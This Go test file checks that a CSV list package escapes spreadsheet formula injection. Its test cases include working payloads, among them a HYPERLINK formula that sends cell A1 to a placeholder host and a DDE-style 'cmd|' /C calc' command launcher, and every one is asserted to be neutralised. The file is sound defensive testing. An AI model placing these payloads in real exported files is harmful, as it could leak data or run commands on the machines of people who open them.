package listfile

import (
	"bytes"
	"io"
	"strings"
	"testing"
	"unicode/utf8"
)

func TestEscapeFormula(t *testing.T) {
	for _, tc := range []struct {
		in, want string
	}{
		{"", ""},
		{"a@example.com", "a@example.com"},
		{"=1+1", "'=1+1"},
		{`=HYPERLINK("http://x.test/?"&A1,"Click")`, `'=HYPERLINK("http://x.test/?"&A1,"Click")`},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"+12025550143", "'+12025550143"}, // a phone in E.164: escaped too (no exceptions)
		{"-5", "'-5"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"\n=1+1", "'\n=1+1"},
		{"\x00x", "'\x00x"},
		{"＝1+1", "'＝1+1"}, // full-width equals
		{"＋1", "'＋1"},
		{"－1", "'－1"},
		{"＠SUM(A1)", "'＠SUM(A1)"},
		{"'already", "''already"}, // the escape character itself, so unescaping is unambiguous
		{"''", "'''"},
		{" =1+1", " =1+1"}, // a leading space is not a trigger
		{"a=1+1", "a=1+1"},
		{"25-34", "25-34"},
		{"Ｅ", "Ｅ"},               // another full-width letter
		{"\xef\xbc", "\xef\xbc"}, // a cut UTF-8 sequence
	} {
		got := EscapeFormula(tc.in)
		if got != tc.want {
			t.Errorf("EscapeFormula(%q) = %q, want %q", tc.in, got, tc.want)
		}
		if back := UnescapeFormula(got); back != tc.in {
			t.Errorf("UnescapeFormula(%q) = %q, want %q", got, back, tc.in)
		}
		if IsFormula(got) {
			t.Errorf("EscapeFormula(%q) = %q still starts a formula", tc.in, got)
		}
	}
}

// TestWriterEscapesServiceColumns: WriteRaw keeps the input record's
// bytes and escapes the service's fields, quoting an escaped one.
func TestWriterEscapesServiceColumns(t *testing.T) {
	for _, tc := range []struct {
		name  string
		delim byte
		raw   string
		extra []string
		want  string
	}{
		{"plain", ',', "a@x.test", []string{"valid", "200"}, "a@x.test,valid,200\n"},
		{"correction", ',', "=2+3@gmial.com", []string{"invalid", "=2+3@gmail.com"}, "=2+3@gmial.com,invalid,\"'=2+3@gmail.com\"\n"},
		{"quote inside", '\t', "x", []string{`=HYPERLINK("u")`}, "x\t\"'=HYPERLINK(\"\"u\"\")\"\n"},
		{"leading quote", '|', "x", []string{"'a"}, "x|\"''a\"\n"},
		{"tab trigger", ',', "x", []string{"\t1"}, "x,\"'\t1\"\n"},
		{"at", ',', "x", []string{"@SUM(A1)"}, "x,\"'@SUM(A1)\"\n"},
		{"empty", ',', "x", []string{""}, "x,\n"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var b bytes.Buffer
			w := NewWriter(&b, tc.delim, false)
			if err := w.WriteRaw([]byte(tc.raw), 1, 1, tc.extra); err != nil {
				t.Fatal(err)
			}
			if err := w.Flush(); err != nil {
				t.Fatal(err)
			}
			if b.String() != tc.want {
				t.Errorf("got %q, want %q", b.String(), tc.want)
			}
			// Read back: the service cells are the escaped values.
			rec, err := NewReader(bytes.NewReader(b.Bytes()), Dialect{Delimiter: tc.delim, EmailColumn: 1}, Limits{}).Next()
			if err != nil {
				t.Fatal(err)
			}
			for i, e := range tc.extra {
				if got := rec.Field(1 + i); got != EscapeFormula(e) {
					t.Errorf("field %d reads back %q, want %q", 1+i, got, EscapeFormula(e))
				}
			}
		})
	}
}

func TestWriteFieldsEscaped(t *testing.T) {
	var b bytes.Buffer
	w := NewWriter(&b, ',', true)
	if err := w.WriteFieldsEscaped([]string{"=cmd", "email", "a,b", "-x"}); err != nil {
		t.Fatal(err)
	}
	if err := w.WriteFieldsEscaped([]string{""}); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	if want := "\"'=cmd\",email,\"a,b\",\"'-x\"\r\n\"\"\r\n"; b.String() != want {
		t.Errorf("got %q, want %q", b.String(), want)
	}
}

// TestRecordAppendEscaped: input cells are escaped field by field; the
// others keep their bytes, quotes included.
func TestRecordAppendEscaped(t *testing.T) {
	for _, tc := range []struct {
		name, in string
		delim    byte
		want     string
		escaped  bool
	}{
		{"untouched", `a,"b",c d`, ',', `a,"b",c d`, false},
		{"formula", `=1+1,x@y.test,@SUM(A1)`, ',', `"'=1+1",x@y.test,"'@SUM(A1)"`, true},
		{"quoted formula", `"=HYPERLINK(""u"")",b`, ',', `"'=HYPERLINK(""u"")",b`, true},
		{"quote kept elsewhere", `"a,b"|-1|"c"`, '|', `"a,b"|"'-1"|"c"`, true},
		{"empty fields", `,,=x,`, ',', `,,"'=x",`, true},
		{"leading quote", "'x\ty", '\t', "\"''x\"\ty", true},
		{"one field", `+1`, ',', `"'+1"`, true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			rec, err := NewReader(strings.NewReader(tc.in+"\n"), Dialect{Delimiter: tc.delim, EmailColumn: 1}, Limits{}).Next()
			if err != nil {
				t.Fatal(err)
			}
			got, escaped := rec.AppendEscaped([]byte("prefix:"))
			if string(got) != "prefix:"+tc.want || escaped != tc.escaped {
				t.Errorf("got %q (escaped %v), want %q (%v)", got, escaped, "prefix:"+tc.want, tc.escaped)
			}
		})
	}
}

// FuzzEscapeFormula: an escaped value never starts a formula, unescaping
// gives the value back (so two values never escape alike), and a record
// escaped field by field reads back as the escaped values of its fields.
func FuzzEscapeFormula(f *testing.F) {
	for _, s := range []string{"", "=1+1", "'", "''=x", "+1", "－", "\t", "a,b", `"q"`, "x@y.test"} {
		f.Add(s, s)
	}
	f.Fuzz(func(t *testing.T, a, b string) {
		ea := EscapeFormula(a)
		if IsFormula(ea) {
			t.Fatalf("EscapeFormula(%q) = %q starts a formula", a, ea)
		}
		if UnescapeFormula(ea) != a {
			t.Fatalf("UnescapeFormula(EscapeFormula(%q)) = %q", a, UnescapeFormula(ea))
		}
		if a != b && ea == EscapeFormula(b) {
			t.Fatalf("%q and %q escape alike: %q", a, b, ea)
		}
		if ea != a && !strings.HasPrefix(ea, "'") {
			t.Fatalf("EscapeFormula(%q) = %q changed more than a prefix", a, ea)
		}
		if !utf8.ValidString(a) || strings.ContainsAny(a+b, "\x00\r\n") {
			return // the record check below needs a line of text
		}
		// Written as service columns and read back, the cells are the
		// escaped values, and none starts a formula.
		var buf bytes.Buffer
		w := NewWriter(&buf, ',', false)
		if err := w.WriteRaw([]byte("x"), 1, 1, []string{a, b}); err != nil {
			t.Fatal(err)
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		rec, err := NewReader(bytes.NewReader(buf.Bytes()), Dialect{Delimiter: ',', EmailColumn: 1}, Limits{}).Next()
		if err != nil {
			t.Fatalf("read back %q: %v", buf.String(), err)
		}
		if got := rec.Fields(); len(got) != 3 || got[1] != ea || got[2] != EscapeFormula(b) {
			t.Fatalf("%q reads back as %q", buf.String(), got)
		}
		// The same cells as input, escaped in place, read back alike.
		esc, _ := rec.AppendEscaped(nil)
		rec2, err := NewReader(bytes.NewReader(append(esc, '\n')), Dialect{Delimiter: ',', EmailColumn: 1}, Limits{}).Next()
		if err != nil && err != io.EOF {
			t.Fatalf("read back %q: %v", esc, err)
		}
		for i, v := range rec2.Fields() {
			if IsFormula(v) {
				t.Fatalf("field %d of %q starts a formula", i, esc)
			}
		}
	})
}
